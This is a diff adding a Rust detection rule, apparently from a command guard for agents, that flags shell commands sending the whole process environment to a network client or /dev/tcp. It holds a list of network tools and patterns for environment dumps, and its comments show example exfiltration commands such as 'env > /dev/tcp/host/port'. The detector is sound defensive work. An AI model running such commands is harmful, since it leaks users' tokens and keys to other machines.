@@ -1,0 +1,66 @@
+//! The `exfiltration` pack: the process environment, where tokens and keys live, sent to the
+//! network: `env`, `printenv`, `export -p`, `set`, `declare -x` or `/proc/*/environ` piped
+//! or substituted into a network client, or redirected to `/dev/tcp`.
+
+use super::{Call, Hit};
+use crate::shell::{SimpleCommand, Stdin};
+
+/// Programs that send what they are given to another machine.
+const NETWORK_CLIENTS: &[&str] = &[
+    "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "http", "https", "xh", "ssh", "scp", "sftp",
+    "openssl", "mail", "sendmail", "mutt", "aws", "gsutil", "rclone",
+];
+
+pub(super) fn judge(call: &Call) -> Option<Hit> {
+    let name = call.name?;
+    let command = call.command;
+    // `env > /dev/tcp/host/port`: bash opens the connection itself.
+    let to_socket = command
+        .redirects
+        .iter()
+        .any(|r| r.target.text.starts_with("/dev/tcp/") || r.target.text.starts_with("/dev/udp/"));
+    if to_socket && dumps_environment(command) {
+        return Some(Hit::new("exfiltration.environment", MESSAGE));
+    }
+    // `env | ssh host 'cat > e'`: the remote command is what was peeled out of `ssh`.
+    let sent = NETWORK_CLIENTS.contains(&name)
+        || command
+            .via
+            .iter()
+            .any(|via| via.split_whitespace().next().is_some_and(|w| NETWORK_CLIENTS.contains(&w)));
+    if !sent {
+        return None;
+    }
+    let piped = match command.stdin {
+        Stdin::Pipe { from: Some(from) } => call.analysis.commands.get(from).is_some_and(dumps_environment),
+        _ => false,
+    };
+    let substituted = call.args().iter().any(|arg| arg.dynamic && substitutes_environment(&arg.raw));
+    (piped || substituted).then(|| Hit::new("exfiltration.environment", MESSAGE))
+}
+
+/// Whether `command` prints the whole environment (or a process's).
+fn dumps_environment(command: &SimpleCommand) -> bool {
+    let Some(name) = command.name() else { return false };
+    let args: Vec<&str> = command.args().iter().map(|a| a.text.as_str()).collect();
+    match name {
+        // `env` and `printenv` with no command or variable name print everything.
+        "env" | "printenv" => args.iter().all(|a| a.starts_with('-')),
+        "export" | "declare" | "typeset" => args.iter().any(|a| matches!(*a, "-p" | "-x" | "-px" | "-xp")),
+        "set" | "compgen" => args.is_empty() || args == ["-v"],
+        "cat" | "strings" | "xargs" | "tr" | "base64" => {
+            args.iter().any(|a| a.starts_with("/proc/") && a.ends_with("/environ"))
+        }
+        _ => false,
+    }
+}
+
+/// `$(env)`, `` `printenv` ``, `$(cat /proc/self/environ)` inside a word.
+fn substitutes_environment(raw: &str) -> bool {
+    let compact: String = raw.split_whitespace().collect::<Vec<_>>().join(" ");
+    ["$(env)", "$(printenv)", "`env`", "`printenv`", "$(export -p)", "$(set)", "/environ"]
+        .iter()
+        .any(|form| compact.contains(form))
+}
+
+const MESSAGE: &str = "This sends the process environment, with every token and key in it, to another machine. Send the one value that is needed, or ask the user.";
